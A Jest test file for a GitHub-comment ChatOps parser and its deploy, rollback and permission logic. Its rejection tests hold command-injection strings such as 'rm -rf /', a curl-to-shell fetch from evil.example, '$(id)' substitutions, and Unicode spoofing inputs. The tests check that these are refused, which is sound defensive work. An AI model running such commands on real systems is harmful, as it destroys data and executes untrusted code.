import { describe, expect, test } from "@jest/globals";
import { hasRole, overrideWords, readCommand, roles } from "../../src/core/chatops.js";
import {
  type CheckFacts,
  checksForbid,
  chooseRelease,
  type DeployFacts,
  mayNotSpeak,
  pin,
  type SpeechFacts,
  suspicion,
  tooOld,
} from "../../src/core/chatops-decision.js";

const minute = 60_000;

describe("the first line of a comment", () => {
  test.each([
    ["!status", { type: "status" }],
    ["!status\n!deploy production", { type: "status" }],
    ["!deploy staging \t\r\nplease", { type: "deploy", environment: "staging", sha: null }],
    ["!deploy staging\r\nplease", { type: "deploy", environment: "staging", sha: null }],
    ["!deploy eu/prod-1 abc", { type: "deploy", environment: "eu/prod-1", sha: "abc" }],
    ["!rollback v1.2.3", { type: "rollback", release: "v1.2.3", environment: null, force: false }],
    ["!rollback v1 production", { type: "rollback", release: "v1", environment: "production", force: false }],
    ["!rollback v1 --force", { type: "rollback", release: "v1", environment: null, force: true }],
    ["!rollback v1 production --force", { type: "rollback", release: "v1", environment: "production", force: true }],
    [
      "!approve-window production 2h hot fix for $(id) #12",
      { type: "approve-window", environment: "production", forMs: 120 * minute, reason: "hot fix for $(id) #12" },
    ],
    [
      "!approve-window production 90m a\u202eb",
      { type: "approve-window", environment: "production", forMs: 90 * minute, reason: "a[U+202E]b" },
    ],
  ])("%j is a command", (body, command) => {
    expect(readCommand(body)).toEqual({ type: "command", command });
  });

  test.each([
    "",
    "deploy staging",
    " !deploy staging",
    "> !deploy staging",
    "please\n!deploy staging",
    "\n!deploy staging",
    "!help",
    "!deployment staging",
    "!deploy-now staging",
    "!merge staging",
    "!delay",
    "!statistics",
    "!rollbacks-now",
    `!${"deploy".repeat(20000)}`,
    "/deploy staging",
    "`!deploy staging`",
    "```\n!deploy staging\n```",
    "<!-- -->!deploy staging",
    "\ufeff!deploy staging",
    "\uff01deploy staging",
    "!d\u0435ploy staging",
    "!\u200bdeploy staging",
  ])("%j is none", (body) => {
    expect(readCommand(body)).toEqual({ type: "nothing" });
  });

  test.each([
    ["!deploy", "takes other words"],
    ["!deploy ", "!deploy takes other words"],
    ["!Deploy staging", "!Deploy is no command: did you mean !deploy?"],
    ["!deplo staging", "!deplo is no command: did you mean !deploy?"],
    ["!dreploy staging", "!dreploy is no command: did you mean !deploy?"],
    ["!deplox staging", "!deplox is no command: did you mean !deploy?"],
    ["!tatus", "!tatus is no command: did you mean !status?"],
    ["!depoly staging", "!depoly is no command: did you mean !deploy?"],
    ["!rolback v1", "!rolback is no command: did you mean !rollback?"],
    ["!deploy  staging", "one space"],
    ["!deploy\tstaging", "one space"],
    ["!deploy staging\u00a0", "one space"],
    [`!deploy staging${" ".repeat(60000)}production`, "too long"],
    ["!deploy staging a b", "takes other words"],
    ["!deploy --force", "takes other words"],
    ["!deploy staging --force", "takes other words"],
    ["!deploy staging;rm -rf /", "letters, digits"],
    ["!deploy;id", "letters, digits"],
    ["!deploy $(curl$IFS\\evil.example|sh)", "letters, digits"],
    ["!deploy staging `id`", "letters, digits"],
    ["!deploy staging && id", "letters, digits"],
    ["!deploy stаging", "letters, digits"],
    ["!rollback", "takes other words"],
    ["!rollback --force", "takes other words"],
    ["!rollback v1 production extra", "takes other words"],
    ["!rollback $(id)", "letters, digits"],
    ["!status now", "takes other words"],
    ["!approve-window production", "needs a duration"],
    ["!approve-window production 2h", "needs a reason"],
    ["!approve-window production 2h  ", "needs a reason"],
    ["!approve-window production 9h because", "at most 8h"],
    ["!approve-window production 481m because", "at most 8h"],
    ["!approve-window production 0h because", "needs a duration"],
    ["!approve-window production 2d because", "needs a duration"],
    ["!approve-window production -1h because", "needs a duration"],
    ["!approve-window production +1h because", "needs a duration"],
    ["!approve-window production 99999h because", "needs a duration"],
    ["!approve-window production 1e2m because", "needs a duration"],
    ["!approve-window production \u0662h because", "needs a duration"],
    ["!approve-window production 2h \u3164\u2800", "needs a reason"],
    ["!approve-window production 2h \u200b\u00ad", "needs a reason"],
    ["!deploy sta\u200bging", "letters, digits"],
    ["!deploy staging\u2028production", "letters, digits"],
    ["!approve-window $(id) 2h because", "needs an environment"],
    [`!deploy ${"a".repeat(2000)}`, "too long"],
  ])("%j is a command with a fault", (body, message) => {
    expect(readCommand(body)).toMatchObject({ type: "fault", message: expect.stringContaining(message) });
  });
});

test("roles rank by their own names, those of an organisation by what GitHub takes them for", () => {
  const may = (roleName: string, permission: string) =>
    roles.filter((least) => hasRole({ roleName, permission }, least)).at(-1) ?? "nothing";
  expect(roles.map((role) => may(role, "none"))).toEqual([...roles]);
  // GitHub tells triage as read and maintain as write: the role's own name counts.
  expect([may("triage", "read"), may("maintain", "write")]).toEqual(["triage", "maintain"]);
  expect([may("release-manager", "write"), may("auditor", "read")]).toEqual(["write", "read"]);
  expect([may("none", "none"), may("", ""), may("admiral", "pirate")]).toEqual(["nothing", "nothing", "nothing"]);
});

test("a comment is a command for a day", () => {
  const createdMs = Date.parse("2026-11-21T12:00:00Z");
  expect(tooOld({ createdMs }, createdMs + 24 * 60 * minute)).toBeNull();
  expect(tooOld({ createdMs }, createdMs + 24 * 60 * minute + 1)).toContain("more than a day old");
});

test("an override says who, until when, and why", () => {
  const untilMs = Date.parse("2026-11-21T14:00:30Z");
  expect(overrideWords({ by: "mona", untilMs, reason: "hot fix", url: "" })).toBe(
    "overridden by mona until 2026-11-21 14:00 UTC: hot fix",
  );
});

const atMs = Date.parse("2026-11-21T12:00:00Z");
const said = { author: "mona", authorType: "User", body: "!deploy staging", createdMs: atMs, updatedMs: atMs };
const speech: SpeechFacts = { action: "created", said, sender: "mona", actor: "mona", triggeringActor: "mona" };

describe("a comment is not obeyed", () => {
  test.each<readonly [string, Partial<SpeechFacts>, string]>([
    ["that was edited", { action: "edited" }, "the comment was edited: only a new comment is obeyed"],
    ["that was deleted", { action: "deleted" }, "the comment was deleted: only a new comment is obeyed"],
    ["that was edited before the run", { said: { ...said, updatedMs: atMs + 1000 } }, "the comment was edited: write"],
    ["of an app", { said: { ...said, author: "x[bot]", authorType: "Bot" } }, "x[bot] is a bot"],
    ["of what is no person", { said: { ...said, authorType: "Organization" } }, "mona is a Organization"],
    ["of a nobody", { said: { ...said, author: "ghost", authorType: "" } }, "ghost is a : only people"],
    ["that another has sent", { sender: "mallory" }, "the comment is by mona, and the run by mona (event by mallory)"],
    ["that a bot has sent", { sender: "x[bot]" }, "x[bot] is a bot"],
    ["in another's run", { actor: "mallory" }, "the comment is by mona, and the run by mallory"],
    ["in nobody's run", { actor: null }, "the run by nobody"],
    ["in a run that a bot starts again", { triggeringActor: "x[bot]" }, "x[bot] is a bot"],
    ["in a run that nobody has started", { triggeringActor: null }, "who has started this run is not known"],
  ])("%s", (_, change, reason) => {
    expect(suspicion(speech)).toBeNull();
    expect(suspicion({ ...speech, ...change })).toContain(reason);
  });

  const writer = { roleName: "write", permission: "write" };
  const facts = { now: said, permissions: { mona: writer } };
  test.each<readonly [string, object, string]>([
    ["whose text is another by now", { now: { ...said, body: "!deploy production" } }, "the comment was edited"],
    ["that has been edited and edited back", { now: { ...said, updatedMs: atMs + 1 } }, "the comment was edited"],
    ["that has another author by now", { now: { ...said, author: "ghost" } }, "another author"],
    ["that is gone", { now: { unknown: "it is gone" } }, "could not be read again: it is gone"],
    [
      "of somebody with a lesser role",
      { permissions: { mona: { roleName: "triage", permission: "read" } } },
      "!deploy needs the role write, and mona has triage",
    ],
    ["of a stranger", { permissions: { mona: { roleName: "none", permission: "none" } } }, "mona has none"],
    ["whose author's role is not known", { permissions: { mona: { unknown: "403" } } }, "could not be learned: 403"],
    ["whose author's role was not asked for", { permissions: {} }, "could not be learned"],
  ])("%s", (_, change, reason) => {
    expect(mayNotSpeak(speech, facts, "deploy", "write")).toBeNull();
    expect(mayNotSpeak(speech, { ...facts, ...change }, "deploy", "write")).toContain(reason);
  });

  test("whose run somebody with a lesser role has started again", () => {
    const again = { ...speech, triggeringActor: "eve" };
    const permissions = { mona: writer, eve: { roleName: "read", permission: "read" } };
    expect(mayNotSpeak(again, { now: said, permissions }, "deploy", "write")).toBe(
      "!deploy needs the role write, and eve has read",
    );
    expect(
      mayNotSpeak(again, { now: said, permissions: { ...permissions, eve: writer } }, "deploy", "write"),
    ).toBeNull();
  });
});

const sha = "a1".repeat(20);
const other = "b2".repeat(20);
const main = { sha: "c3".repeat(20), branch: "main" };
const pull = { isOpen: true, isFork: false, headSha: sha, headRef: "feature/x" };
const deploy = (named: string | null) => ({ type: "deploy" as const, environment: "staging", sha: named });
const base: Omit<DeployFacts, "checks" | "check"> = {
  command: deploy(null),
  commentMs: atMs,
  pull,
  pushes: [{ atMs: atMs - minute, after: sha }],
  checkedOut: main,
};
const goes = { go: { sha, branch: "feature/x" } };
const instead = `!deploy staging ${sha}`;

describe("the commit of !deploy", () => {
  test.each<readonly [string, Partial<typeof base>, object]>([
    ["is the head that the author has seen", {}, goes],
    ["is the one that is named, whatever was pushed and when", { command: deploy(sha), pushes: null }, goes],
    ["is the default branch's on an issue", { pull: null, pushes: null }, { go: main }],
    ["may be named there too", { pull: null, pushes: null, command: deploy(main.sha) }, { go: main }],
  ])("%s", (_, change, decision) => {
    expect(pin({ ...base, ...change })).toEqual(decision);
  });

  const refusals: readonly (readonly [string, Partial<typeof base>, string, string?])[] = [
    ["a short SHA", { command: deploy("a1a1a1a") }, "a1a1a1a is not the full name of a commit"],
    ["a SHA in capitals", { command: deploy("A1".repeat(20)) }, "is not the full name of a commit"],
    ["a branch", { command: deploy("main") }, "main is not the full name of a commit"],
    ["another commit", { command: deploy(other) }, "the head of the pull request is a1a1a1a1a1a1, not b2b2b2b2b2b2"],
    ["a fork", { pull: { ...pull, isFork: true }, command: deploy(sha) }, "from a fork"],
    ["a closed pull request", { pull: { ...pull, isOpen: false } }, "is closed"],
    ["a pull request that cannot be read", { pull: { unknown: "502" } }, "could not be read: 502"],
    ["a head that is no commit", { pull: { ...pull, headSha: "" } }, "does not say what the head"],
    [
      "a push since the comment",
      { pushes: [{ atMs: atMs + minute, after: sha }] },
      "was pushed to since the comment: name the commit",
      instead,
    ],
    [
      "a push in the very second of the comment",
      { pushes: [{ atMs, after: sha }] },
      "was pushed to since the comment",
      instead,
    ],
    [
      "a push since the comment that was taken back",
      {
        pushes: [
          { atMs: atMs + minute, after: sha },
          { atMs: atMs + minute / 2, after: other },
          { atMs: atMs - minute, after: sha },
        ],
      },
      "was pushed to since the comment",
      instead,
    ],
    ["a head that GitHub tells differently", { pushes: [{ atMs: 0, after: other }] }, "the branch has moved", instead],
    ["a time that is none", { pushes: [{ atMs: Number.NaN, after: sha }] }, "since the comment", instead],
    ["no pushes at all", { pushes: [] }, "does not tell when", instead],
    ["pushes that cannot be read", { pushes: { unknown: "403" } }, "could not be learned: 403", instead],
    ["pushes that were not asked for", { pushes: null }, "was not asked for", instead],
    [
      "another commit on an issue",
      { pull: null, command: deploy(sha) },
      "main is at c3c3c3c3c3c3, not at a1a1a1a1a1a1",
    ],
  ];
  test.each(refusals.map(([name, change, reason, hint = null]) => [name, change, reason, hint] as const))(
    "is refused for %s",
    (_, change, reason, hint) => {
      const decision = pin({ ...base, ...change });
      expect(decision).toMatchObject({ refuse: expect.stringContaining(reason) });
      expect((decision as { instead?: string }).instead ?? null).toBe(hint);
    },
  );
});

describe("the check of the commit", () => {
  const check = { name: "Gatehouse", app: "github-actions" };
  const run: CheckFacts = {
    ...check,
    id: 5,
    externalId: "gatehouse-41-1-Gatehouse",
    status: "completed",
    conclusion: "success",
  };
  test("has to have passed", () => {
    expect(checksForbid([run], check, sha)).toBeNull();
    expect(checksForbid([{ ...run, id: 4, conclusion: "failure" }, run], check, sha)).toBeNull();
    expect(checksForbid(null, check, sha)).toBeNull();
  });
  test.each<readonly [string, Parameters<typeof checksForbid>[0], string]>([
    ["is not there", [], "the check Gatehouse has not run on a1a1a1a1a1a1"],
    ["is another app's", [{ ...run, app: "mallory" }], "has not run"],
    ["has another name", [{ ...run, name: "Gatehouse / test" }], "has not run"],
    ["is a job of that name", [{ ...run, externalId: "6f5c" }], "has not run"],
    ["goes on", [{ ...run, id: 6, status: "in_progress", conclusion: null }, run], "has not ended"],
    ["was run again, and failed", [run, { ...run, id: 6, conclusion: "failure" }], "is failure on"],
    ["is neutral", [{ ...run, conclusion: "neutral" }], "is neutral on"],
    ["is skipped", [{ ...run, conclusion: "skipped" }], "is skipped on"],
    ["has no conclusion", [{ ...run, conclusion: null }], "is without conclusion on"],
    ["cannot be read", { unknown: "403" }, "could not be read: 403"],
  ])("forbids it where it %s", (_, checks, reason) => {
    expect(checksForbid(checks, check, sha)).toContain(reason);
  });
});

describe("the release of !rollback", () => {
  const release = (version: string, commit = sha) => ({ version, commit, images: [] });
  const rollback = (name: string, environment: string | null = null) => ({
    type: "rollback" as const,
    release: name,
    environment,
    force: false,
  });
  const history = [
    { gate: "deploy", environment: "staging", releases: [release("v3"), release("v2", other), release("v1")] },
    { gate: "deploy", environment: "production", releases: [release("v2", other)] },
  ];
  test("is one that was healthy, by its version or its commit", () => {
    expect(chooseRelease(rollback("v1"), history)).toEqual({
      go: { gate: "deploy", environment: "staging", release: release("v1") },
    });
    expect(chooseRelease(rollback(other, "production"), history.slice(1))).toMatchObject({
      go: { environment: "production", release: { version: "v2" } },
    });
  });
  test("has to be named with its environment where several had it", () => {
    expect(chooseRelease(rollback("v2"), history)).toEqual({
      refuse: "v2 was healthy in staging and production: name the environment",
      instead: "!rollback v2 staging",
    });
  });
  test("has to be named by its commit where a name has stood for several", () => {
    const moved = [{ ...history[1], releases: [release("v2", other), release("v2"), release("v2", other)] }];
    expect(chooseRelease(rollback("v2"), moved as typeof history)).toEqual({
      refuse:
        "v2 was healthy in production as several commits, newest first b2b2b2b2b2b2, a1a1a1a1a1a1: name the one that you mean",
      instead: `!rollback ${sha} production`,
    });
    expect(chooseRelease(rollback(sha), moved as typeof history)).toMatchObject({ go: { release: release("v2") } });
  });
  test("is refused where it never was, with those that were", () => {
    expect(chooseRelease(rollback("v9"), history)).toEqual({
      refuse: "v9 was never healthy anywhere. What was, newest first: in staging v3, v2, v1; in production v2",
    });
    expect(chooseRelease(rollback("v3", "production"), history.slice(1))).toEqual({
      refuse: "v3 was never healthy in production. What was, newest first: in production v2",
    });
    expect(chooseRelease(rollback("v3"), [{ gate: "deploy", environment: "staging", releases: [] }])).toEqual({
      refuse: "v3 was never healthy anywhere. What was, newest first: in staging nothing",
    });
  });
});
